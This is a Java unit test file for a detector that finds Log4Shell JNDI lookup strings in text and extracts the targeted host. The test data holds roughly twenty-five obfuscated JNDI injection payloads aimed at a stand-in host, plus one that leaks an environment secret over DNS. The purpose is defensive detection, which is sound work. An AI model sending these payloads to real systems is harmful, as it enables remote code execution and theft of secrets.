/*
 * Copyright 2026 the Podtap authors
 * SPDX-License-Identifier: Apache-2.0
 */
package io.podtap.sensor.notice.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JndiTextTest {

  /** One way of writing for each means that a logger resolves. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "${jndi:ldap://h:1389/a}",
        "x ${JNDI:LDAP://h:1389/a} y",
        "${${lower:j}ndi:${lower:l}dap://h:1389/a}",
        "${${lower:j}${upper:n}${lower:d}${upper:i}:ldap://h:1389/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://h:1389/a}",
        "${jn${lower:d}i:l${lower:d}ap://h:1389/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//h:1389/a}",
        "${${lower:${lower:${lower:jndi}}}:ldap://h:1389/a}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://h:1389/a}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://h:1389/a}",
        "${${base64:am5kaTpsZGFwOi8vaDoxMzg5L2E=}}",
        "$${jndi:ldap://h:1389/a}",
        "${${:::::-j}ndi:ldap://h:1389/a}",
        "%24%7Bjndi:ldap://h:1389/a%7D",
        "$%7bjndi%3aldap%3a//h:1389/a%7d",
        "%2524%257Bjndi:ldap://h:1389/a%257D",
        "%u0024%u007bjndi:ldap://h:1389/a%u007d",
        "${jnd${upper:\u00c4\u00b1}:ldap://h:1389/a}",
        "${JNDI:LDAP://h:1389/a}",
        "${j${::-}n${env:x:-}di:ldap://h:1389/a}",
        "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://h:1389/a}",
        "{\"user\":\"\\u0024{jndi:ldap://h:1389/a}\"}",
        "${\\u006a\\u006edi:ldap://h:1389/a}",
        "GET /?q=${jndi:ldap://h:1389/a HTTP/1.1",
        "} } ${jndi:ldap://h:1389/a}",
      })
  void findsTheLookup(String text) {
    String found = Objects.requireNonNull(JndiText.find(text));

    assertThat(found.toLowerCase(Locale.ROOT)).startsWith("jndi:ldap://h:1389/a");
    assertThat(JndiText.target(found)).isEqualToIgnoringCase("h:1389");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jndi:ldap://h:1389/a",
        "${price} and ${lower:jndi}",
        "cost: $20 {a} %24 100%",
        "${date:yyyy} ${env:HOME:-/root} ${java:version}",
        "{\"a\":\"$ {jndi\"}",
        "${",
        "${${${${",
        "%",
        "%2",
      })
  void leavesOtherTextAlone(String text) {
    assertThat(JndiText.find(text)).isNull();
  }

  @Test
  void keepsWhatTheServerIsAskedToReveal() {
    assertThat(JndiText.find("${jndi:dns://h/${env:SECRET_KEY}.x}"))
        .isEqualTo("jndi:dns://h/env:SECRET_KEY.x");
  }

  @Test
  void boundsItsWork() {
    String deep = "${".repeat(20_000) + "jndi:ldap://h/a" + "}".repeat(20_000);

    assertThat(JndiText.find(deep)).isNull();
    assertThat(JndiText.find("${::-".repeat(900) + "}".repeat(900))).isNull();
  }

  @Test
  void findsTheTarget() {
    assertThat(JndiText.target("jndi:ldap://127.0.0.1#h.example:1389/a")).isEqualTo("127.0.0.1");
    assertThat(JndiText.target("jndi:ldap://user:pw@h:1389/a")).isEqualTo("h:1389");
    assertThat(JndiText.target("jndi:ldap://[fd00::5]:1389/a")).isEqualTo("[fd00::5]:1389");
    assertThat(JndiText.target("jndi:java:comp/env")).isNull();
  }
}
